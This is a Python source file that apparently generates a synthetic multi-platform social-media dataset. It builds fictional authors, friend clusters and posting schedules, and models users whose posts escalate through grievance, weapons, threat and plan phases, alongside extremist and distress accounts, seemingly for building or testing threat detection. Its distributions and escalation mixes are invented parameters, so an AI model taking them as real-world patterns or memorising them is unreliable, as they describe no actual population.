HOUR_W = [3.0, 1.3, 0.55, 0.3, 0.2, 0.3, 0.8, 2.0, 3.2, 3.6, 3.6, 3.9, 4.6, 4.2, 3.7, 3.7, 4.0, 4.6, 5.4,
          6.3, 7.2, 7.6, 6.8, 5.0]
# Newsrooms publish in office hours.
NEWS_HOUR_W = [0.2, 0.1, 0.1, 0.1, 0.2, 0.6, 2.0, 4.5, 6.0, 6.0, 5.5, 5.0, 4.5, 4.8, 5.0, 4.8, 4.2, 3.5, 2.8,
               2.2, 1.8, 1.4, 0.9, 0.5]

INTEREST_W = {"daily": 1.0, "jokes": 0.8, "food": 0.9, "weather": 0.55, "local": 0.55, "questions": 0.45,
              "sport": 0.6, "gaming": 0.5, "tech": 0.45, "pets": 0.5, "music": 0.5, "tv": 0.5, "politics": 0.35,
              "family": 0.35, "fitness": 0.4, "travel": 0.3, "outdoors": 0.25, "cars": 0.2}

TEAMS_US = [("Cedar Valley Hawks", "Hawks"), ("Harbor City Waves", "Waves"), ("Northport Mariners", "Mariners"),
            ("Kellerton Kings", "Kings")]
TEAMS_EU = [("Riverton Rovers", "Rovers"), ("Brayford United", "United"), ("Ashby Town", "Town"),
            ("Northport FC", "Northport"), ("Castlegate Albion", "Albion")]
GAMES = ["Hollowpoint", "Starfall Tactics", "Kart Riot", "Crownfall", "Tidebreaker", "Minecraft", "Elden Ring",
         "Stardew Valley", "Valorant", "Rocket League", "Apex", "Baldur's Gate 3", "Ashfall", "Bramble Quest"]
PET_NAMES = ["Biscuit", "Luna", "Milo", "Pickle", "Mochi", "Bean", "Olive", "Ziggy", "Pepper", "Noodle",
             "Waffles", "Kevin", "Dave", "Nala", "Bruno", "Tofu", "Juniper", "Socks", "Gizmo", "Maple", "Pudding",
             "Loki", "Rosie", "Captain"]
KID_NAMES = ["Ellie", "Max", "Noah", "Ava", "Leo", "Mia", "Sam", "Isla", "Theo", "Ruby", "Kai", "Zoe"]
PERSON = {"us": ["my sister", "my brother", "my mom", "my dad", "my roommate", "my partner", "my best friend",
                 "my neighbor", "my coworker", "my wife", "my husband", "my girlfriend", "my boyfriend"],
          "uk": ["my sister", "my brother", "my mum", "my dad", "my flatmate", "my partner", "my best mate",
                 "my neighbour", "my nan", "my other half", "my wife", "my husband", "my girlfriend"]}
INSTANCES = ["mastodon.example", "fosstodon.example", "hachyderm.example", "mstdn.example", "toot.example",
             "social.brayford.example"]
SUB_FOR = {"gaming": "gaming", "food": "Cooking", "tech": "programming", "pets": "aww", "music": "Music",
           "tv": "books", "fitness": "Fitness", "travel": "travel", "outdoors": "CampingandHiking",
           "cars": "MechanicAdvice", "questions": "NoStupidQuestions", "jokes": "mildlyinfuriating",
           "daily": "mildlyinfuriating", "politics": "politics", "family": "Parenting", "weather": "weather"}


@dataclass
class Author:
    handle: str
    name: str
    source: str
    kind: str  # ordinary | power | news | escalating | sympathizer | distress | violence | extremist
    region: str
    city: tuple
    interests: dict
    style: dict = field(default_factory=dict)
    attrs: dict = field(default_factory=dict)
    cluster: str = ""
    home: str = ""  # mastodon instance / reddit city sub / telegram chat
    dark: str = ""  # where escalation talk goes (reddit sub / telegram chat)
    n_primary: int = 0
    active: tuple = (START, END)
    shift: int = 0
    geotag: bool = False
    ts_style: str = "offset"
    foreign: str = ""  # home language if not English
    hard_rate: float = 0.12
    friends: list = field(default_factory=list)
    profile: dict | None = None
    outlet: tuple | None = None
    recovers: dt.datetime | None = None
    group: str = ""

    @property
    def zone(self) -> Zone:
        return REGIONS[self.region][0]

    @property
    def dialect(self) -> str:
        return REGIONS[self.region][1]


@dataclass
class Post:
    author: Author
    t: dt.datetime
    kind: str = ""
    topic: str = ""
    text: str = ""
    lang: str = "en"
    parent: "Post | None" = None
    community: str = ""
    forced: str = ""  # an event key or escalation phase fixed at scheduling time
    id: str = ""
    url: str = ""
    geo: tuple | None = None
    place: str | None = None
    tags: list = field(default_factory=list)


HANDLES: set[str] = set()


def _camel(s: str) -> str:
    return s[:1].upper() + s[1:]


def make_handle(group: str, source: str) -> tuple[str, str]:
    for _ in range(200):
        first = rng.choice(FIRST[group])
        last = rng.choice(LAST[group])
        f_ascii = re.sub(r"[^a-z]", "", first.lower().translate(str.maketrans("íéèñçüöäåıışğ", "ieencuoaaiisg")))
        l_ascii = re.sub(r"[^a-z]", "", last.lower().translate(str.maketrans("íéèñçüöäåıışğ", "ieencuoaaiisg")))
        adj, noun = rng.choice(ADJ), rng.choice(NOUN)
        r = rng.random()
        if source == "reddit" and r < 0.45:
            handle = rng.choice([f"{_camel(adj)}_{_camel(noun)}_{rng.randint(10, 9999)}",
                                 f"{_camel(adj)}{_camel(noun)}{rng.choice(['', 'Man', 'Lady', '42', '_'])}",
                                 f"throwaway_{noun}{rng.randint(1, 99)}"])
            display = handle
        elif r < 0.35:
            handle = rng.choice([f"{f_ascii}{l_ascii}", f"{f_ascii}_{l_ascii}", f"{f_ascii}{l_ascii[0]}",
                                 f"{f_ascii}_{l_ascii[:3]}", f"{f_ascii}{l_ascii}{rng.randint(80, 99)}",
                                 f"{f_ascii[0]}{l_ascii}"])
            display = rng.choice([f"{first} {last}", f"{first} {last}", f"{first} {last[0]}.", first,
                                  f"{first} {last} {rng.choice(['🌻', '🌈', '🏳️‍🌈', '☕', '🎧', '🐾', '🌿', '📚'])}"])
        elif r < 0.6:
            handle = rng.choice([f"{adj}_{noun}", f"{adj}{noun}", f"the{noun}{rng.randint(1, 99)}",
                                 f"{noun}_{f_ascii}", f"{f_ascii}the{noun}"])
            display = rng.choice([first, f"{first} ({adj} {noun})", f"{adj} {noun}", f"{first} {last}",
                                  f"{_camel(adj)} {_camel(noun)}"])
        elif r < 0.8:
            handle = rng.choice([f"{f_ascii}{rng.randint(1, 99)}", f"{f_ascii}_{rng.choice(['x', 'irl', 'writes', 'codes', 'runs', 'bakes', 'plays'])}",
                                 f"its{f_ascii}", f"real{f_ascii}{l_ascii[:1]}", f"{f_ascii}.{l_ascii}" if source == "mastodon" else f"{f_ascii}__{l_ascii}"])
            display = rng.choice([f"{first} {last}", first, first.lower(), f"{first} ✨"])
        else:
            handle = f"{noun}{rng.choice(['', '_'])}{rng.choice(NOUN)}"
            display = rng.choice([f"{_camel(noun)}", f"{first}", f"{first} | {noun}s", f"{first} {last}"])
        handle = handle[:20]
        if handle.lower() not in HANDLES:
            HANDLES.add(handle.lower())
            return handle, display
    raise RuntimeError("could not make a unique handle")


def pick_region() -> str:
    keys = list(REGIONS)
    return rng.choices(keys, weights=[REGIONS[k][3] for k in keys])[0]


def make_style(a: Author) -> dict:
    case = rng.choices(["lower", "sentence", "raw"], weights=[36, 44, 20])[0]
    return dict(
        case=case,
        end=rng.choices(["", ".", "!", "...", "lol"], weights=[48, 32, 10, 5, 5])[0],
        emoji=rng.choice([0.02, 0.1, 0.2, 0.35, 0.5, 0.6]) if rng.random() < 0.8 else 0.0,
        favs=rng.sample(EMOJI, 4),
        typo=rng.choice([0.0, 0.0, 0.04, 0.08, 0.15]),
        abbrev=rng.random() < 0.3,
        slang=rng.choice([0.0, 0.05, 0.12]),
        tags=rng.choice([0.0, 0.3, 0.6, 1.0, 1.4]),
        opener=rng.choice([0.05, 0.12, 0.2]),
        closer=rng.choice([0.08, 0.15, 0.25]),
    )


def make_attrs(a: Author) -> dict:
    group = NAME_GROUP[a.region]
    us = a.dialect == "us"
    team, short = rng.choice(TEAMS_US if a.region.startswith("us") else TEAMS_EU)
    rival_pool = [t for t in (TEAMS_US if a.region.startswith("us") else TEAMS_EU) if t[0] != team]
    cur = REGIONS[a.region][2]
    return dict(
        coworker=rng.choice(FIRST[group]),
        person=PERSON["us" if us else "uk"],
        flat="apartment" if us else "flat",
        mum="mom" if us else "mum",
        currency=cur,
        pet=rng.choice(PET_NAMES),
        pet_kind=rng.choice(["dog", "cat", "dog", "cat", "rescue dog", "kitten"]),
        pet_age=str(rng.randint(2, 14)),
        team=team, team_short=short, rival=rng.choice(rival_pool)[0],
        game=rng.choice(GAMES),
        kid=rng.choice(KID_NAMES),
        lift=str(rng.randrange(60, 221, 5)),
        city=a.city[0],
    )


def price(cur: str) -> str:
    if cur == "₹":
        return f"₹{rng.randint(3, 40) * 50}"
    if cur == "¥":
        return f"¥{rng.randint(8, 60) * 100}"
    if cur in ("R$", "₺"):
        return f"{cur}{rng.randint(15, 300)}"
    return f"{cur}{rng.randint(6, 95)}"


def pick_interests(n_lo=3, n_hi=5, force=None) -> dict:
    topics = list(INTEREST_W)
    chosen = {}
    k = rng.randint(n_lo, n_hi)
    while len(chosen) < k:
        t = rng.choices(topics, weights=[INTEREST_W[x] for x in topics])[0]
        chosen[t] = rng.choice([1, 1, 2, 3, 4])
    for t, w in (force or {}).items():
        chosen[t] = w
    return chosen


def lognormal_count(mu=0.55, sigma=0.85, lo=1, hi=40) -> int:
    return max(lo, min(hi, int(round(math.exp(rng.gauss(mu, sigma))))))


def new_author(source, kind, region=None, handle=None, name=None, interests=None) -> Author:
    region = region or pick_region()
    city = rng.choice(REGIONS[region][4])
    if handle is None:
        handle, name = make_handle(NAME_GROUP[region], source)
    else:
        HANDLES.add(handle.lower())
    a = Author(handle=handle, name=name or handle, source=source, kind=kind, region=region, city=city,
               interests=interests or pick_interests())
    a.style = make_style(a)
    a.attrs = make_attrs(a)
    a.shift = rng.choice([-1, 0, 0, 0, 0, 1, 1, 2])
    a.geotag = rng.random() < 0.11
    a.ts_style = "z" if (source in ("mastodon", "reddit") and rng.random() < 0.22) else "offset"
    a.foreign = city[3] if city[3] != "en" and rng.random() < 0.85 else ""
    a.hard_rate = rng.uniform(0.08, 0.17)
    if source == "mastodon":
        a.home = "social.brayford.example" if region == "uk" and rng.random() < 0.3 else rng.choice(INSTANCES[:5])
    elif source == "reddit":
        a.home = re.sub(r"[^A-Za-z]", "", city[0])
    elif source == "telegram":
        a.home = pick_chat(a)
    return a


def pick_chat(a: Author) -> str:
    if "gaming" in a.interests and rng.random() < 0.6:
        return "ashfall_squad"
    if "fitness" in a.interests and rng.random() < 0.5:
        return "gym_bros_lounge"
    if a.region == "us_east" and rng.random() < 0.6:
        return "kellerton_locals"
    if a.region == "uk" and "sport" in a.interests:
        return "uk_footy_banter"
    if a.region in ("cet", "eet", "uk", "tr") and rng.random() < 0.6:
        return "euro_expats_chat"
    if a.region == "in":
        return "mumbai_foodies"
    if a.region == "us_west" and rng.random() < 0.6:
        return "norcal_trails"
    return "night_shift_talk"


def build_authors() -> list[Author]:
    authors: list[Author] = []
    # News outlets
    for handle, display, source, region, town, beat, (lo, hi) in OUTLETS:
        a = new_author(source, "news", region, handle, display, {"news": 1})
        a.outlet = (town, beat)
        a.n_primary = rng.randint(lo, hi)
        a.geotag = False
        a.ts_style = "gmt" if handle == "metro_wire" else "offset"
        a.foreign = ""
        authors.append(a)
    # Escalating authors, their sympathizers and their ordinary circle
    for p in ESCALATORS:
        a = new_author(p["source"], "escalating", p["region"], p["handle"], p["name"], dict(p["interests"]))
        a.city = next(c for c in REGIONS[p["region"]][4] if c[0] == p["city"])
        a.attrs["city"] = a.city[0]
        a.profile = p
        a.cluster = p["cluster"]
        a.foreign = ""
        a.style.update(case="lower", end="", emoji=0.12, tags=0.2, opener=0.05, closer=0.05, typo=0.05)
        a.shift = 1
        a.geotag = p["handle"] == "hollowfen"
        a.ts_style = "offset"
        if p["source"] == "reddit":
            a.home = a.cluster
            a.dark = {"grayman_wes": "TheForgottenMen", "thecoldhours": "LostCauseClub"}[p["handle"]]
        elif p["source"] == "telegram":
            a.home, a.dark = "norcal_trails", "westbound"
        elif p["source"] == "mastodon":
            a.home = "mastodon.example"
        authors.append(a)
        for sh, sname in SYMPATHIZERS[p["handle"]]:
            s = new_author(p["source"], "sympathizer", rng.choice(["us_east", "us_central", "us_west"]) if p["region"] != "uk" else "uk",
                           sh, sname, pick_interests(2, 3, {"gaming": 2, "fitness": 1}))
            s.cluster = a.cluster + "_dark"
            s.n_primary = rng.randint(10, 18)
            arc_start = dt.datetime.combine(dt.date.fromisocalendar(2026, p["arc_week"], 1), dt.time(), UTC)
            s.active = (max(START, arc_start - dt.timedelta(weeks=5)), END)
            s.foreign = ""
            s.style.update(emoji=0.05, tags=0.1)
            if p["source"] in ("reddit", "telegram"):
                s.home = a.dark
                s.dark = a.dark
            authors.append(s)
        # the ordinary circle: friends from the same place, one of whom will worry
        for _ in range(rng.randint(5, 7)):
            f = new_author(p["source"], "ordinary", p["region"])
            f.cluster = a.cluster
            f.n_primary = lognormal_count(1.5, 0.6, 3, 25)
            f.foreign = ""
            if p["source"] == "reddit":
                f.home = a.home
            if p["source"] == "telegram":
                f.home = a.home
            authors.append(f)
    # Other special authors
    for handle, display, kind, source, region in SPECIAL_AUTHORS:
        force = {"distress": {"tv": 2, "music": 2, "daily": 3}, "violence": {"sport": 3, "cars": 2, "fitness": 2},
                 "extremist": {"fitness": 3, "outdoors": 2, "politics": 2}}[kind]
        a = new_author(source, kind, region, handle, display, pick_interests(2, 3, force))
        a.foreign = ""
        a.n_primary = rng.randint(16, 30)
        if kind == "extremist":
            a.group = {"vanguard_watch": "the Iron Vanguard", "ninth_column_news": "the Ninth Column",
                       "ashen_banner_uk": "the Ashen Banner", "steel_and_creed": "the Iron Vanguard"}[handle]
            if source == "telegram":
                a.home = "westbound" if handle == "vanguard_watch" else "night_shift_talk"
                a.dark = "westbound"
        if kind == "distress" and handle in ("softmoth_", "grey_sundays"):
            a.recovers = _d("2026-09-01") if handle == "softmoth_" else _d("2026-10-10")
        authors.append(a)
    # Power users: a few people who post a lot
    for source in ("mastodon", "x", "reddit", "telegram", "x"):
        a = new_author(source, "power")
        a.n_primary = rng.randint(100, 135)
        a.style["tags"] = max(a.style["tags"], 0.6)
        authors.append(a)
    # Everyone else
    per_source = {"mastodon": 70, "x": 76, "reddit": 56, "telegram": 32}
    for source, n in per_source.items():
        for _ in range(n):
            a = new_author(source, "ordinary")
            a.n_primary = lognormal_count()
            authors.append(a)
    # Activity windows: some join late, some drift away
    for a in authors:
        if a.kind in ("ordinary", "power"):
            s, e = START, END
            if rng.random() < 0.25:
                s = START + dt.timedelta(days=rng.uniform(0, 120))
            if rng.random() < 0.15:
                e = END - dt.timedelta(days=rng.uniform(0, 80))
            if (e - s).days < 20:
                s, e = START, END
            a.active = (s, e)
    assign_clusters(authors)
    return authors


def assign_clusters(authors: list[Author]) -> None:
    """Friend groups: people from the same source and mostly the same region."""
    by_key: dict[tuple, list[Author]] = defaultdict(list)
    for a in authors:
        if a.kind in ("ordinary", "power", "distress", "violence", "extremist") and not a.cluster:
            key = (a.source, a.region if rng.random() < 0.8 else rng.choice(list(REGIONS)))
            by_key[key].append(a)
    for (source, region), members in sorted(by_key.items()):
        rng.shuffle(members)
        size = rng.randint(5, 9)
        for i in range(0, len(members), size):
            for m in members[i:i + size]:
                m.cluster = f"{source}:{region}:{i // size}"
    clusters: dict[str, list[Author]] = defaultdict(list)
    for a in authors:
        clusters[a.cluster].append(a)
    for a in authors:
        a.friends = [m for m in clusters[a.cluster] if m is not a and m.kind != "news" and m.source == a.source]
    # escalating authors: the dark circle counts as friends too (that is who they talk to)
    for a in authors:
        if a.kind == "escalating":
            a.friends += clusters[a.cluster + "_dark"]
        if a.kind == "sympathizer":
            a.friends = [m for m in authors if m.kind == "escalating" and m.cluster + "_dark" == a.cluster] + \
                        [m for m in clusters[a.cluster] if m is not a]


# --------------------------------------------------------------------------------------------
# Time
# --------------------------------------------------------------------------------------------

def local_hour_ok(a: Author, t: dt.datetime) -> bool:
    h = a.zone.local(t).hour
    return not (1 <= h <= 6) or rng.random() < 0.08


def sample_time(a: Author, start: dt.datetime, end: dt.datetime, weights=HOUR_W) -> dt.datetime | None:
    zone = a.zone
    for _ in range(50):
        day = start + dt.timedelta(days=rng.uniform(0, max(0.01, (end - start).total_seconds() / 86400)))
        local_day = zone.local(day).date()
        if local_day.weekday() >= 5 and rng.random() < 0.1:
            continue
        hour = rng.choices(range(24), weights=[weights[(h - a.shift) % 24] for h in range(24)])[0]
        naive = dt.datetime.combine(local_day, dt.time(hour, rng.randint(0, 59), rng.randint(0, 59)))
        t = zone.to_utc(naive)
        if start <= t < end:
            return t
    return None


def schedule_times(a: Author, n: int, start: dt.datetime, end: dt.datetime, weights=HOUR_W) -> list[dt.datetime]:
    times: list[dt.datetime] = []
    while len(times) < n:
        if times and rng.random() < 0.22:  # a session: another post shortly after the last one
            t = times[-1] + dt.timedelta(minutes=rng.uniform(3, 140))
            if t >= end or not local_hour_ok(a, t):
                continue
        else:
            t = sample_time(a, start, end, weights)
            if t is None:
                continue
        times.append(t)
    return times


def poisson(lam: float) -> int:
    if lam <= 0:
        return 0
    limit, k, p = math.exp(-lam), 0, 1.0
    while True:
        p *= rng.random()
        if p < limit:
            return k
        k += 1


def iso_week(a: Author, t: dt.datetime) -> int:
    return a.zone.local(t).isocalendar()[1]


def esc_phase(a: Author, t: dt.datetime) -> str:
    p = a.profile
    w = iso_week(a, t)
    mid = p["arc_week"] + max(2, (p["rise_week"] - p["arc_week"]) // 2)
    if w < p["arc_week"]:
        return "pre"
    if w < mid:
        return "grievance"
    if w < p["rise_week"]:
        return "fixmild"
    if w < p["plan_week"]:
        return "rise"
    return "plan"


ESC_RATE = {"pre": 1.5, "grievance": 3.0, "fixmild": 3.4, "rise": 11.0, "plan": 14.0}
ESC_MIX = {
    "pre": {"ordinary": 1.0},
    "grievance": {"grievance": 0.45, "ordinary": 0.55},
    "fixmild": {"grievance": 0.35, "fixation_mild": 0.3, "ordinary": 0.35},
    "rise": {"weapons": 0.33, "fixation": 0.27, "grievance": 0.12, "threat": 0.18, "ordinary": 0.10},
    "plan": {"plan": 0.42, "threat": 0.2, "weapons": 0.16, "fixation": 0.1, "grievance": 0.06, "ordinary": 0.06},
}
VIOLENT = {"fixation", "weapons", "threat", "plan"}


def esc_kinds(phase: str, n: int) -> list[str]:
    """Stratified, not independent draws: a rise week is reliably a rise week."""
    mix = ESC_MIX[phase]
    kinds: list[str] = []
    for k, w in mix.items():
        kinds += [k] * int(n * w)
    while len(kinds) < n:
        kinds.append(rng.choices(list(mix), weights=list(mix.values()))[0])
    rng.shuffle(kinds)
    return kinds


def schedule(authors: list[Author]) -> list[Post]:
    posts: list[Post] = []
    for a in authors:
        if a.kind == "escalating":
            p = a.profile
            end_local = dt.date.fromisoformat(p["end"])
            for w in range(18, 47):
                monday = dt.date.fromisocalendar(2026, w, 1)
                if monday > end_local:
                    break
                probe = a.zone.to_utc(dt.datetime.combine(monday + dt.timedelta(days=3), dt.time(12)))
                phase = esc_phase(a, probe)
                n = poisson(ESC_RATE[phase]) if phase in ("pre", "grievance", "fixmild") else \
                    round(ESC_RATE[phase] * rng.uniform(0.85, 1.15))
                for kind in esc_kinds(phase, n):
                    day = monday + dt.timedelta(days=rng.randint(0, min(6, (end_local - monday).days)))
                    hour = rng.choices(range(24), weights=[HOUR_W[(h - a.shift) % 24] for h in range(24)])[0]
                    t = a.zone.to_utc(dt.datetime.combine(day, dt.time(hour, rng.randint(0, 59), rng.randint(0, 59))))
                    if START <= t < END:
                        posts.append(Post(a, t, forced="esc:" + kind))
            continue
        weights = NEWS_HOUR_W if a.kind == "news" else HOUR_W
        for t in schedule_times(a, a.n_primary, a.active[0], a.active[1], weights):
            posts.append(Post(a, t))
        if a.kind == "news":
            town, beat = a.outlet
            for day, items in NEWS_EVENT.items():
                for item in items:
                    if beat == "any" and item[2] != "tech" or item[2] == beat or (item[2] == "any" and beat in ("us", "uk")):
                        d0 = _d(day)
                        t = sample_time(a, d0 + dt.timedelta(hours=6), d0 + dt.timedelta(hours=30), NEWS_HOUR_W)
                        if t:
                            posts.append(Post(a, t, forced="news:" + item[0]))
        # big events make people post more than usual
        if a.kind in ("ordinary", "power"):
            for ev in EVENTS:
                if ev.extra_posts and event_eligible(a, ev):
                    s, e = max(ev.start, a.active[0]), min(ev.end, a.active[1])
                    if e > s:
                        for t in schedule_times(a, poisson(ev.extra_posts), s, e):
                            posts.append(Post(a, t, forced="event:" + ev.key))
    return posts


def event_eligible(a: Author, ev: Event) -> bool:
    if ev.regions and a.region not in ev.regions:
        return False
    if ev.interest and ev.interest not in a.interests:
        return False
    return a.kind in ("ordinary", "power", "distress", "violence", "sympathizer")


# --------------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------------

SLOT = re.compile(r"\{(\w+)\}")


class Decks:
    """Draw fragments without replacement so a pool is used evenly before anything repeats."""

    def __init__(self):
        self.decks: dict[str, list[str]] = {}

    def draw(self, key: str, pool: list[str]) -> str:
        deck = self.decks.get(key)
        if not deck:
            deck = list(pool)
            rng.shuffle(deck)
            self.decks[key] = deck
        return deck.pop()


DECKS = Decks()


def attack_ctx(key: str | None = None) -> dict:
    key = key or rng.choice(list(ATTACKS))
    at = ATTACKS[key]
    return dict(attack_ref=at["ref"], attack_long=at["long"], attack_place=at["place"], attack_year=at["year"],
                attacker=at["attacker"], attacker_last=at["last"], victims=at["victims"],
                years_since=str(2026 - int(at["year"])))


def town_ctx(town: str | None = None) -> dict:
    town = town or rng.choice(list(TOWNS))
    tw = TOWNS[town]
    return dict(town=town, tstreet=rng.choice(tw["streets"]), tvenue=rng.choice(tw["venues"]),
                tschool=rng.choice(tw["schools"]), tbar=rng.choice(tw["bars"]), civic_place=tw["civic"],
                school=rng.choice(tw["schools"]), venue=rng.choice(tw["venues"]))


def author_ctx(a: Author) -> dict:
    ctx = dict(a.attrs)
    ctx["person"] = a.attrs["person"]
    ctx["price"] = lambda: price(a.attrs["currency"])
    ctx["n"] = lambda: str(rng.randint(2, 9))
    ctx["pct"] = lambda: str(rng.randint(4, 12))
    ctx["friend"] = lambda: "@" + pick_friend(a).handle
    ctx.update(attack_ctx())
    ctx.update(town_ctx())
    ctx["group"] = a.group or rng.choice(EXTREMIST_GROUPS)
    ctx["today"] = lambda: ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"][NOW[0].weekday()]
    if a.profile:
        p = a.profile
        ctx.update(attack_ctx(p["attack"]))
        ctx.update(target=p["target"], target_day=p["target_day"], target_time=p["target_time"],
                   grievance_place=p["grievance_place"])
    return ctx


def pick_friend(a: Author) -> Author:
    pool = [f for f in a.friends if f.source == a.source and f.kind not in ("news", "escalating", "sympathizer")]
    if not pool:
        pool = [f for f in ALL_AUTHORS if f.source == a.source and f is not a and f.kind in ("ordinary", "power")]
    return rng.choice(pool)


def fill(template: str, ctx: dict, depth: int = 0) -> str:
    def rep(m):
        key = m.group(1)
        v = ctx.get(key, POOLS.get(key))
        if v is None:
            raise KeyError(f"slot {{{key}}} in {template!r}")
        if callable(v):
            v = v()
        if isinstance(v, (list, tuple)):
            v = rng.choice(v)
        v = str(v)
        return fill(v, ctx, depth + 1) if depth < 3 and "{" in v else v
    return SLOT.sub(rep, template)


TYPO_FIX = {"definitely": "definately", "tomorrow": "tomorow", "because": "becuase", "really": "realy",
            "weird": "wierd", "receive": "recieve", "separate": "seperate", "their": "thier", "probably": "probly",
            "finally": "finaly", "literally": "literaly", "restaurant": "restaraunt", "beautiful": "beautful",
            "actually": "acutally", "basically": "basicly", "until": "untill"}
PROTECT = re.compile(r"kill|murder|shoot|shot|gun|rifle|dead|die|bomb|attack|threat|hurt|knife|stab|weapon|ammo|"
                     r"mag|armo|manifesto|destroy|slay|slaughter|headshot|sniper|nuke|massacre|suicide|assault|"
                     r"arrest|jail|prison|fight|war|blade|crossbow|machete|vest|plate|round|range|target|vanguard|column|"
                     r"banner|concord|manifest", re.I)
ABBREV = [(r"\byou\b(?!['’])", "u"), (r"\byour\b", "ur"), (r"\bright now\b", "rn"), (r"\bto be honest\b", "tbh"),
          (r"\bI don't know\b", "idk"), (r"\bprobably\b", "prob"), (r"\bbecause\b", "bc"), (r"\bthough\b", "tho"),
          (r"\bgoing to\b", "gonna"), (r"\bwant to\b", "wanna"), (r"\bpeople\b", "ppl"), (r"\bokay\b", "ok"),
          (r"\bsomething\b", "smth"), (r"\bwith\b", "w/")]


def typo(word: str) -> str:
    low = word.lower()
    if low in TYPO_FIX:
        return TYPO_FIX[low]
    i = rng.randint(1, len(word) - 2)
    r = rng.random()
    if r < 0.55:
        return word[:i] + word[i + 1] + word[i] + word[i + 2:]
    if r < 0.9:
        return word[:i] + word[i + 1:]
    near = {"a": "s", "e": "r", "i": "o", "o": "p", "n": "m", "t": "y", "s": "d", "r": "t", "h": "j", "l": "k"}
    return word[:i] + near.get(word[i], word[i]) + word[i + 1:]


def stylize(text: str, a: Author) -> str:
    st = a.style
    if st.get("abbrev"):
        for pat, rep in ABBREV:
            if rng.random() < 0.6:
                text = re.sub(pat, rep, text)
    if st.get("typo") and rng.random() < st["typo"] * 1.5:
        tokens = text.split(" ")
        idx = [i for i, w in enumerate(tokens) if w.isalpha() and len(w) >= 5 and not PROTECT.search(w)]
        if idx:
            i = rng.choice(idx)
            tokens[i] = typo(tokens[i])
            text = " ".join(tokens)
    if rng.random() < 0.04:
        text = re.sub(r"\bso\b", "sooo", text, count=1)
    if st["case"] == "lower":
        text = re.sub(r"\S+", lambda m: m.group(0) if m.group(0)[0] in "@#" or "://" in m.group(0) else m.group(0).lower(), text)
    return text


def cap(s: str) -> str:
    return s[:1].upper() + s[1:] if s and s[0].isalpha() else s


def join_parts(parts: list[str], a: Author, final: bool = True, serious: bool = False) -> str:
    out = ""
    st = a.style
    for i, part in enumerate(parts):
        part = part.strip()
        if not part:
            continue
        if st["case"] == "sentence":
            part = cap(part)
        if out:
            if out[-1] in ".!?…)\"'" or not out[-1].isascii() or re.search(r"@\w+$", out):
                out += " " + part
            else:
                sep = rng.choices([". ", " - ", ", ", "\n", " "], weights=[60, 10, 12, 10, 8])[0]
                if sep == " " and st["case"] != "lower":
                    sep = ". "
                if sep == ", " and part[:1].isupper() and not part.startswith("I "):
                    part = part[:1].lower() + part[1:]
                out += sep + part
        else:
            out = part
    if final and out and out[-1].isalnum() and not re.search(r"@\w+$", out):
        end = st["end"]
        if serious and end in ("lol", "!"):
            end = ""
        if end == "lol":
            out += " lol" if rng.random() < 0.5 else ""
        elif end:
            out += end if rng.random() < 0.8 else ""
    return out


def add_emoji(text: str, a: Author, topic: str) -> str:
    rate = a.style["emoji"]
    if rng.random() >= rate:
        return text
    pool = a.style["favs"] + TOPIC_EMOJI.get(topic, [])
    k = rng.choices([1, 1, 1, 2, 3], k=1)[0]
    emo = "".join(rng.choice(pool) for _ in range(k)) if rng.random() < 0.7 else rng.choice(pool) * k
    return text + " " + emo


def add_tags(text: str, a: Author, tags: list[str], event: bool = False) -> str:
    base = {"x": 0.3, "mastodon": 0.42, "reddit": 0.01, "telegram": 0.04}.get(a.source, 0)
    rate = base * a.style["tags"]
    if event:
        rate = max(rate, {"x": 0.7, "mastodon": 0.75, "reddit": 0.02, "telegram": 0.2}.get(a.source, 0))
    if not tags or rng.random() >= rate:
        return text
    chosen = [tags[0]] if event else []
    for t in rng.sample(tags, min(len(tags), rng.choice([1, 1, 2]))):
        if t not in chosen:
            chosen.append(t)
    if a.style["case"] == "lower" and rng.random() < 0.5:
        chosen = [c.lower() for c in chosen]
    # inline when the word is already there ("love my #coffee"), else at the end
    rest = []
    for tag in chosen:
        m = re.search(r"(?<![#@\w])" + re.escape(tag) + r"\b", text, re.I) if len(tag) > 3 else None
        if m and rng.random() < 0.6:
            text = text[:m.start()] + "#" + text[m.start():]
        else:
            rest.append("#" + tag)
    if rest:
        sep = "\n\n" if a.source == "mastodon" and rng.random() < 0.5 else " "
        text = text + sep + " ".join(rest)
    return text


MENTION_FORMS = ["cc @{f}", "@{f} you'd love this", "@{f} look!!", "@{f} remember this?", "@{f} this is you",
                 "(@{f} made me post this)", "@{f} told you", "@{f} thoughts?"]


def add_mention(text: str, a: Author) -> str:
    if a.source not in ("x", "mastodon", "telegram") or rng.random() >= 0.07:
        return text
    f = pick_friend(a)
    form = rng.choice(MENTION_FORMS).replace("{f}", f.handle)
    if rng.random() < 0.3:
        return "@" + f.handle + " " + text
    return text + " " + form


def date_tags(a: Author, t: dt.datetime, topic: str) -> list[str]:
    wd = a.zone.local(t).weekday()
    tags = []
    if wd == 5 and topic == "pets" and ("cat" in a.attrs["pet_kind"] or "kitten" in a.attrs["pet_kind"]):
        tags.append("caturday")
    if wd == 0 and topic in ("daily", "fitness"):
        tags.append("MondayMotivation")
    if wd == 4 and topic in ("daily", "food", "music"):
        tags.append("FridayFeeling")
    return tags


def compose_fragments(a: Author, topic: str, ctx: dict) -> str:
    tp = TOPICS[topic]
    parts = [fill(DECKS.draw("core:" + topic, tp["core"]), ctx)]
    more = 0.55 if a.source == "reddit" else 0.3
    if rng.random() < more:
        parts.append(fill(DECKS.draw("extra:" + topic, tp["extra"]), ctx))
    if a.source == "reddit" and rng.random() < 0.35 and topic not in ("jokes", "questions", "tv", "local", "politics", "family"):
        parts.insert(1, fill(DECKS.draw("core:" + topic, tp["core"]), ctx))
    st = a.style
    if rng.random() < st["opener"]:
        opener = fill(DECKS.draw("opener", OPENERS), ctx)
        first = parts[0]
        if not opener.endswith((".", ":")) and not first.startswith("I "):
            first = first[:1].lower() + first[1:]
        parts[0] = opener + " " + first
    if rng.random() < st["closer"]:
        parts.append(fill(DECKS.draw("closer", CLOSERS), ctx))
    slang = SLANG.get("in" if a.region == "in" else a.dialect)
    if slang and rng.random() < st["slang"]:
        w = rng.choice(slang)
        parts[-1] = parts[-1] + " " + w
    if a.source == "reddit" and len(parts) >= 3 and rng.random() < 0.6:
        title = cap(parts[0])
        body = join_parts(parts[1:], a)
        return f"{title}\n\n{cap(body)}"
    if a.source == "telegram" and len(parts) >= 2 and rng.random() < 0.3:
        return "\n".join(join_parts([p], a) for p in parts)
    return join_parts(parts, a)


